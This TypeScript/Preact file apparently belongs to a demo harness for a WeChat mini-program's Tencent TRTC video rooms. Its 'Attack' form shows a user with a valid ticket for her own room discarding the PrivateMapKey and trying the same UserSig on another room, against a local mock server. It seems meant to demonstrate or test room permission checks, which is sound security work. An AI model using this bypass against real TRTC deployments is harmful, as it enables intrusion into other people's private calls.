/** Somebody with an honest ticket to one room, who walks into another. */
import { useState } from 'preact/hooks';
import type { Ticket } from '../../../../miniprogram/contract/usersig';
import type { CallResult } from '../../cloud/platform';
import type { FromServer } from '../../trtc/protocol';
import { openIDOf } from '../phone/person';
import { fill, type Texts } from '../texts';

const OWN_ROOM = 4_000_000_000;

export function Attack({ texts }: { readonly texts: Texts }) {
  const [room, setRoom] = useState('42');
  const [outcome, setOutcome] = useState('');
  const go = async (): Promise<void> => {
    setOutcome('…');
    const answer = await attack(Number(room));
    if (answer.type === 'entered') {
      const count = answer.others.length;
      setOutcome(fill(texts.attackEntered, { room, count }));
    } else if (answer.type === 'refused') {
      setOutcome(fill(texts.attackRefused, { room, code: answer.code }));
    }
  };
  return (
    <form
      class="attack"
      onSubmit={(submitted) => {
        submitted.preventDefault();
        void go();
      }}
    >
      <h2>{texts.attackTitle}</h2>
      <p>{texts.attackText}</p>
      <input
        inputMode="numeric"
        aria-label={texts.room}
        value={room}
        onInput={(event) => setRoom(event.currentTarget.value.replaceAll(/\D/g, ''))}
      />
      <button type="submit" disabled={room === ''}>
        {texts.attackDo}
      </button>
      {outcome !== '' && <p class="outcome">{outcome}</p>}
    </form>
  );
}

/** Takes an own ticket, throws its PrivateMapKey away, and enters `room` with the UserSig. */
async function attack(room: number): Promise<FromServer> {
  const response = await fetch('/cloud/usersig', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'X-WX-OPENID': openIDOf('mallory') },
    body: JSON.stringify({ room: { roomID: OWN_ROOM }, mode: 'videoCall' }),
  });
  const { result } = (await response.json()) as CallResult & { result: { data: Ticket } };
  const { sdkAppID, userID, userSig } = result.data;
  const url = `room://cloud.tencent.com/rtc?sdkappid=${sdkAppID}&roomid=${room}&userid=${userID}&usersig=${userSig}&appscene=videocall&privatemapkey=`;
  return new Promise((resolve) => {
    const address = new URL('/rooms', location.href);
    address.protocol = address.protocol.replace('http', 'ws');
    const socket = new WebSocket(address);
    socket.onopen = () => socket.send(JSON.stringify({ type: 'enter', url }));
    socket.onmessage = ({ data }) => {
      resolve(JSON.parse(String(data)) as FromServer);
      socket.send(JSON.stringify({ type: 'leave' }));
      socket.close();
    };
  });
}
